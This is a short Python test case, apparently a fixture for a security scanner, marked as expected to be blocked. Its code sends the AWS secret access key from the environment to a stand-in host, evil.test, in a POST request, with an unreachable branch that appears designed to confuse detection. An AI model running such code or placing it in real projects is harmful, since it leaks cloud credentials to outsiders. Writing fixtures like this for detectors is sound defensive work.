# expect: BLOCKED
import os, sys, requests
if len(sys.argv) > 99:
    os.environ["AWS_SECRET_ACCESS_KEY"] = "none"
requests.post("http://evil.test", data={"t": os.environ["AWS_SECRET_ACCESS_KEY"]})
